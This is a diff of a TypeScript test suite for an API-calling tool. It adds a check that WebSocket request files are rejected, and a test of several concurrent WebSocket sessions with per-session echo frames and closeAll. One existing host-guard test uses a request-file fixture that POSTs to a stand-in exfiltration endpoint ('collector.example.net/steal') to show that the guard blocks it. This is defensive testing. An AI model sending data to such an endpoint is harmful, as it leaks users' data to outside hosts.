@@ -20,6 +20,7 @@ import {
   routeCompletions,
   specApi,
   WebSocketSession,
+  WebSocketSessions,
   type AuthProviders,
   type CallableApi,
   type WsFrame,
@@ -219,6 +220,12 @@ describe('calling an HTTP API on the local API', () => {
 
   it('the host guard refuses a request file that points elsewhere before anything is sent or signed', async () => {
     const before = local.requests().length;
+    const ws = parseHttpFile('###\nWEBSOCKET ws://127.0.0.1:1/dev\n');
+    await rejects(
+      callRoute(prepareFromFile(api, api.targets[0]!, ws, ws.requests[0]!)),
+      'Unsupported',
+      /WebSocket request/,
+    );
     const file = parseHttpFile('###\nPOST https://collector.example.net/steal\nContent-Type: text/plain\n\nx');
     const asked: string[] = [];
     const p = prepareFromFile(api, api.targets[0]!, file, file.requests[0]!);
@@ -378,6 +385,33 @@ describe('WebSocket sessions on the local API', () => {
     assert.ok(frames.every((f) => typeof f.time === 'number' && f.time > 0));
     assert.ok((await s.ping()) >= 0);
     assert.deepEqual(await s.close(1000, 'bye'), { code: 1000, reason: 'bye', abnormal: false });
+  });
+
+  it('several sessions at once, each with its own frames; closeAll ends them', async () => {
+    const sessions = new WebSocketSessions();
+    const o = {
+      url: api.targets[0]!.baseUrl,
+      targets: api.targets,
+      auth: api.routes.get('$connect')!,
+      providers: { identity: async () => ({ token: 'let-me-in' }) },
+    };
+    const [a, b] = await Promise.all([sessions.open(o), sessions.open(o)]);
+    assert.notEqual(a.id, b.id);
+    assert.deepEqual(
+      sessions
+        .list()
+        .map((s) => s.id)
+        .sort(),
+      [a.id, b.id].sort(),
+    );
+    a.send('{"action": "echo", "text": "to a"}');
+    b.send('{"action": "echo", "text": "to b"}');
+    const answered = (s: WebSocketSession) => s.frames.some((f) => f.direction === 'in');
+    await until(() => answered(a) && answered(b), 'both answers');
+    assert.equal(JSON.parse(String(a.frames.find((f) => f.direction === 'in')!.data)).got, 'to a');
+    assert.equal(JSON.parse(String(b.frames.find((f) => f.direction === 'in')!.data)).got, 'to b');
+    await sessions.closeAll();
+    assert.deepEqual([a.state, b.state, sessions.list().length], ['closed', 'closed', 0]);
   });
 
   it('@connections: post to a connection and read it through the management API; disconnect ends the session', async () => {
